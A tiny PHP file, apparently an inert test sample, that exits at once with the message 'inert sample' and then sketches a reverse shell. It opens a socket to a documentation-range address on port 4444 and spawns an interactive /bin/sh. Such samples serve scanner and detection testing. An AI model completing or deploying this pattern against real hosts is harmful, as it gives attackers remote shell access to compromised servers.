<?php exit("inert sample");
$s = fsockopen("192.0.2.72", 4444);
proc_open("/bin/sh -i", $d, $p);
